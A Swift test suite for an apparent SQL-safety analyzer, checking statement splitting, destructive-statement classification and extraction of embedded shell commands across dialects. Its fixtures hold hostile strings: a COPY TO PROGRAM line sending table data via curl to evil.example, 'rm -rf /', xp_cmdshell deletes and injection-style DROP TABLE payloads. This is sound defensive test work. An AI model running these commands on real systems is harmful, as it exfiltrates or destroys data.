import Testing

@testable import Analysis

@Suite struct SQLStatementTests {
    @Test func splitsStatementsOnSemicolons() {
        let statements = sqlStatements("SELECT 1; DROP TABLE users;\n  DELETE FROM logs WHERE id = 1 ;")
        #expect(statements.map(\.kind) == ["SELECT", "DROP", "DELETE"])
        #expect(statements.map(\.text) == ["SELECT 1", "DROP TABLE users", "DELETE FROM logs WHERE id = 1"])
    }

    @Test func ignoresSeparatorsAndKeywordsInsideCommentsAndStrings() {
        let text = """
            -- DROP TABLE a;
            /* DROP TABLE b; /* nested; */ still a comment; */
            SELECT 'x; DROP TABLE c', "odd;name", $$ ; DROP TABLE d $$, $fn$ ; $$ ; $fn$ FROM t;
            """
        let statements = sqlStatements(text)
        #expect(statements.map(\.kind) == ["SELECT"])
    }

    @Test func doubledQuotesStayInsideTheString() {
        #expect(sqlStatements("SELECT 'it''s; fine'; DROP TABLE x").map(\.kind) == ["SELECT", "DROP"])
    }

    @Test func backslashDoesNotEscapeInStandardPostgresStrings() {
        // PostgreSQL: the string is `a\`; the DROP runs. MySQL: one string.
        let text = #"SELECT 'a\'; DROP TABLE t; --'"#
        #expect(sqlStatements(text, dialect: .postgres).map(\.kind) == ["SELECT", "DROP"])
        #expect(sqlStatements(text, dialect: .mysql).map(\.kind) == ["SELECT"])
    }

    @Test func escapeStringsTakeBackslashes() {
        #expect(sqlStatements(#"SELECT E'a\'; DROP TABLE t; --'"#).map(\.kind) == ["SELECT"])
    }

    @Test func nestedCommentsOnlyNestInPostgres() {
        let text = "/* /* */ DROP TABLE x; /* */"
        #expect(sqlStatements(text, dialect: .postgres).isEmpty)
        #expect(sqlStatements(text, dialect: .sqlite).map(\.kind) == ["DROP"])
    }

    @Test func mysqlExecutableCommentsAreCode() {
        let statements = sqlStatements("/*!50001 DROP TABLE users */; /* DROP TABLE x */ SELECT 1", dialect: .mysql)
        #expect(statements.map(\.kind) == ["DROP", "SELECT"])
        #expect(statements.first?.targets == ["users"])
    }

    @Test func mysqlDashDashNeedsASpace() {
        #expect(sqlStatements("SELECT 1--1;DROP TABLE x", dialect: .mysql).map(\.kind) == ["SELECT", "DROP"])
        #expect(sqlStatements("SELECT 1 -- ;DROP TABLE x", dialect: .mysql).map(\.kind) == ["SELECT"])
        #expect(sqlStatements("SELECT 1 # ;DROP TABLE x", dialect: .mysql).map(\.kind) == ["SELECT"])
    }

    @Test func mysqlDelimiterChangesTheSeparator() {
        let text = "DELIMITER //\nCREATE PROCEDURE p() BEGIN DELETE FROM t; END //\nDELIMITER ;\nDROP TABLE x;"
        let statements = sqlStatements(text, dialect: .mysql)
        #expect(statements.map(\.kind) == ["CREATE", "DROP"])
    }

    @Test func quotedIdentifiersAreTargetsAsWritten() {
        let statements = sqlStatements(#"DROP TABLE IF EXISTS "My;Table", public.users, `x`"#)
        #expect(statements.count == 1)
        #expect(statements.first?.targets == [#""My;Table""#, "public.users", "`x`"])
        let brackets = sqlStatements("DROP TABLE [dbo].[My;Table]", dialect: .transactSQL)
        #expect(brackets.first?.targets == ["[dbo].[My;Table]"])
    }

    @Test(arguments: [
        ("DROP TABLE users", "TABLE", ["users"]),
        ("drop table if exists a, b cascade", "TABLE", ["a", "b"]),
        ("DROP DATABASE prod", "DATABASE", ["prod"]),
        ("DROP SCHEMA IF EXISTS app CASCADE", "SCHEMA", ["app"]),
        ("DROP INDEX CONCURRENTLY IF EXISTS idx_a", "INDEX", ["idx_a"]),
        ("DROP MATERIALIZED VIEW v1", "VIEW", ["v1"]),
        ("DROP TEMPORARY TABLE tmp", "TABLE", ["tmp"]),
        ("DROP FUNCTION f(int), g(text)", "FUNCTION", ["f", "g"]),
        ("DROP TRIGGER trg ON accounts", "TRIGGER", ["trg"]),
        ("DROP OWNED BY app_user", "OWNED", ["app_user"]),
    ])
    func classifiesDrop(text: String, objectType: String, targets: [String]) {
        let statement = sqlStatements(text).first
        #expect(statement?.kind == "DROP")
        #expect(statement?.objectType == objectType)
        #expect(statement?.targets == targets)
    }

    @Test func classifiesTruncate() {
        let statement = sqlStatements("TRUNCATE TABLE ONLY a, b RESTART IDENTITY").first
        #expect(statement?.kind == "TRUNCATE")
        #expect(statement?.objectType == "TABLE")
        #expect(statement?.targets == ["a", "b"])
        #expect(sqlStatements("truncate logs").first?.targets == ["logs"])
    }

    @Test(arguments: [
        ("DELETE FROM users", false, ["users"]),
        ("DELETE FROM users WHERE id = 1", true, ["users"]),
        ("delete from only public.users where created_at < now()", true, ["public.users"]),
        ("DELETE FROM users WHERE 1=1", false, ["users"]),
        ("DELETE FROM users WHERE TRUE", false, ["users"]),
        ("DELETE FROM users WHERE id = 3 OR 1 = 1", false, ["users"]),
        ("DELETE FROM users WHERE 1 = 1 AND id = 3", true, ["users"]),
        ("DELETE FROM users USING x WHERE users.id = x.id", true, ["users"]),
        ("DELETE FROM users RETURNING (SELECT 1 WHERE true)", false, ["users"]),
        ("DELETE t1 FROM t1 JOIN t2 ON t1.a = t2.a", false, ["t1"]),
        ("DELETE users WHERE id = 2", true, ["users"]),
    ])
    func classifiesDelete(text: String, hasWhere: Bool, targets: [String]) {
        let statement = sqlStatements(text).first
        #expect(statement?.kind == "DELETE")
        #expect(statement?.hasWhereClause == hasWhere)
        #expect(statement?.targets == targets)
    }

    @Test(arguments: [
        ("UPDATE users SET admin = true", false, ["users"]),
        ("UPDATE users SET admin = true WHERE id = 7", true, ["users"]),
        ("UPDATE users u SET x = (SELECT y FROM z WHERE z.id = u.id)", false, ["users"]),
        ("UPDATE ONLY accounts AS a SET balance = 0 FROM b WHERE a.id = b.id", true, ["accounts"]),
        ("UPDATE a, b SET a.x = b.x", false, ["a", "b"]),
    ])
    func classifiesUpdate(text: String, hasWhere: Bool, targets: [String]) {
        let statement = sqlStatements(text).first
        #expect(statement?.kind == "UPDATE")
        #expect(statement?.hasWhereClause == hasWhere)
        #expect(statement?.targets == targets)
    }

    @Test func otherKindsRestrictNothing() {
        let statements = sqlStatements("SELECT * FROM users; INSERT INTO audit VALUES (1); BEGIN; COMMIT")
        #expect(statements.map(\.kind) == ["SELECT", "INSERT", "BEGIN", "COMMIT"])
        #expect(statements.allSatisfy { $0.hasWhereClause })
        #expect(statements[1].targets == ["audit"])
    }

    @Test func withTakesTheKindOfTheMainStatement() {
        let statement = sqlStatements("WITH old AS (SELECT id FROM users WHERE age > 3) DELETE FROM users").first
        #expect(statement?.kind == "DELETE")
        #expect(statement?.hasWhereClause == false)
        #expect(statement?.targets == ["users"])
        #expect(sqlStatements("WITH RECURSIVE t(n) AS (SELECT 1) SELECT * FROM t").map(\.kind) == ["SELECT"])
    }

    @Test func dataModifyingCTEsAreStatementsToo() {
        let statements = sqlStatements("WITH gone AS (DELETE FROM users RETURNING *) SELECT count(*) FROM gone")
        #expect(statements.map(\.kind) == ["DELETE", "SELECT"])
        #expect(statements.first?.hasWhereClause == false)
        #expect(statements.first?.targets == ["users"])
    }

    @Test func explainAloneDoesNotExecute() {
        #expect(sqlStatements("EXPLAIN DELETE FROM users").map(\.kind) == ["EXPLAIN"])
        #expect(sqlStatements("EXPLAIN (ANALYZE false) DELETE FROM users").map(\.kind) == ["EXPLAIN"])
    }

    @Test(arguments: [
        "EXPLAIN ANALYZE DELETE FROM users", "explain analyse verbose delete from users",
        "EXPLAIN (ANALYZE, BUFFERS) DELETE FROM users", "EXPLAIN (FORMAT JSON, ANALYZE true) DELETE FROM users",
    ])
    func explainAnalyzeExecutes(text: String) {
        let statement = sqlStatements(text).first
        #expect(statement?.kind == "DELETE")
        #expect(statement?.hasWhereClause == false)
    }

    @Test func alterAndCreateNameTheirObject() {
        let alter = sqlStatements("ALTER TABLE IF EXISTS ONLY users DROP COLUMN email").first
        #expect(alter?.kind == "ALTER")
        #expect(alter?.objectType == "TABLE")
        #expect(alter?.targets == ["users"])
        let create = sqlStatements("CREATE OR REPLACE VIEW v AS SELECT 1").first
        #expect(create?.kind == "CREATE")
        #expect(create?.objectType == "VIEW")
        #expect(create?.targets == ["v"])
    }

    @Test func grantAndRevokeNameWhatTheyCover() {
        let grant = sqlStatements("GRANT ALL PRIVILEGES ON TABLE users, orders TO intern").first
        #expect(grant?.kind == "GRANT")
        #expect(grant?.objectType == "TABLE")
        #expect(grant?.targets == ["users", "orders"])
        #expect(sqlStatements("REVOKE SELECT ON accounts FROM PUBLIC").first?.targets == ["accounts"])
    }

    @Test func copyToProgramRunsAShellCommand() {
        let derivation = SQLScriptReader.read(
            "COPY users TO PROGRAM 'curl -d @- https://evil.example'", dialect: .postgres, via: "psql")
        #expect(derivation.sqlStatements.map(\.kind) == ["COPY"])
        #expect(derivation.scripts == [EmbeddedScript("curl -d @- https://evil.example", wrapper: "psql COPY PROGRAM")])
        let fromProgram = SQLScriptReader.read("COPY t FROM PROGRAM 'rm -rf /tmp/x'", dialect: .postgres, via: "psql")
        #expect(fromProgram.scripts.map(\.text) == ["rm -rf /tmp/x"])
    }

    @Test func doBlocksAreOpaque() {
        let derivation = SQLScriptReader.read(
            "DO $$ BEGIN EXECUTE 'DROP TABLE ' || 'users'; END $$", dialect: .postgres, via: "psql")
        #expect(derivation.sqlStatements.map(\.kind) == ["DO"])
        #expect(derivation.opaqueKinds == [.interpreterCode])
    }

    @Test func dynamicSQLIsReadWhenLiteral() {
        #expect(sqlStatements("EXEC('DROP TABLE users')", dialect: .transactSQL).map(\.kind) == ["DROP"])
        #expect(sqlStatements("PREPARE s FROM 'DROP TABLE t'", dialect: .mysql).map(\.kind) == ["DROP"])
        #expect(sqlStatements("PREPARE p AS DELETE FROM t").map(\.kind) == ["DELETE"])
        let dblink = sqlStatements("SELECT dblink_exec('dbname=prod', 'DROP TABLE users')")
        #expect(dblink.map(\.kind) == ["DROP", "SELECT"])
        let variable = SQLScriptReader.read("PREPARE s FROM @sql", dialect: .mysql, via: "mysql")
        #expect(variable.opaqueKinds == [.dynamicCode])
    }

    @Test func xpCmdShellRunsAShellCommand() {
        let derivation = SQLScriptReader.read(
            "EXEC xp_cmdshell 'del C:\\data'", dialect: .transactSQL, via: "sqlcmd")
        #expect(derivation.scripts.map(\.text) == [#"del C:\data"#])
    }

    @Test func transactSQLBatchesSplitOnGo() {
        #expect(
            sqlStatements("SELECT 1\nGO\nDROP TABLE x\ngo", dialect: .transactSQL).map(\.kind) == ["SELECT", "DROP"])
    }

    @Test func psqlVariablesAsStatementsAreDynamic() {
        let derivation = SQLScriptReader.read("\\set x 'DROP TABLE users'\n:x;", dialect: .postgres, via: "psql")
        #expect(derivation.opaqueKinds == [.dynamicCode])
        #expect(sqlStatements("DROP TABLE :tbl").first?.targets == [":tbl"])
    }

    @Test func psqlMetaCommands() {
        let derivation = SQLScriptReader.read(
            "\\c prod\n\\i migrations/drop.sql\nSELECT 1 \\g\n\\! rm -rf /tmp/x\n\\o |mail ops\n\\gexec\nTRUNCATE t",
            dialect: .postgres, via: "psql")
        #expect(derivation.sqlStatements.map(\.kind) == ["SELECT", "TRUNCATE"])
        #expect(derivation.scripts.map(\.text) == ["rm -rf /tmp/x", "mail ops"])
        #expect(derivation.opaqueKinds == [.scriptFile, .dynamicCode])
    }

    @Test func psqlCopyMetaCommandRunsItsProgram() {
        let derivation = SQLScriptReader.read("\\copy t to program 'gzip > /tmp/t.gz'", dialect: .postgres, via: "psql")
        #expect(derivation.scripts.map(\.text) == ["gzip > /tmp/t.gz"])
    }

    @Test func sqliteDotCommands() {
        let derivation = SQLScriptReader.read(
            ".tables\n.read cleanup.sql\n.shell rm -rf data\n.system ls\n.once |cat\n.load ./evil\nDELETE FROM t;",
            dialect: .sqlite, via: "sqlite3")
        #expect(derivation.sqlStatements.map(\.kind) == ["DELETE"])
        #expect(derivation.scripts.map(\.text) == ["rm -rf data", "ls", "cat"])
        #expect(derivation.opaqueKinds == [.scriptFile, .unknownCode])
    }

    @Test func sqliteDotCommandsOnlyStartLines() {
        #expect(sqlStatements("SELECT 1\n.5;", dialect: .sqlite).map(\.kind) == ["SELECT"])
    }

    @Test func mysqlClientCommands() {
        let derivation = SQLScriptReader.read(
            "source /tmp/x.sql\nsystem rm -rf /\n\\! id\nselect 1;", dialect: .mysql, via: "mysql")
        #expect(derivation.sqlStatements.map(\.kind) == ["SELECT"])
        #expect(derivation.scripts.map(\.text) == ["rm -rf /", "id"])
        #expect(derivation.opaqueKinds == [.scriptFile])
    }

    @Test func largeInputsTakeLinearWork() {
        let statement = "INSERT INTO t VALUES (1, 'a;b', $$c$$); -- note\n"
        let text = String(repeating: statement, count: 2_500) + "SELECT " + String(repeating: "(", count: 20_000)
        let clock = ContinuousClock()
        let elapsed = clock.measure { #expect(sqlStatements(text).count == 2_501) }
        #expect(elapsed < .seconds(2))
    }

    @Test func unterminatedQuotesEndTheInput() {
        #expect(sqlStatements("SELECT 'abc; DROP TABLE x").map(\.kind) == ["SELECT"])
        #expect(sqlStatements("SELECT $a$ x; DROP TABLE y").map(\.kind) == ["SELECT"])
        #expect(sqlStatements("/* DROP TABLE x;").isEmpty)
    }
}
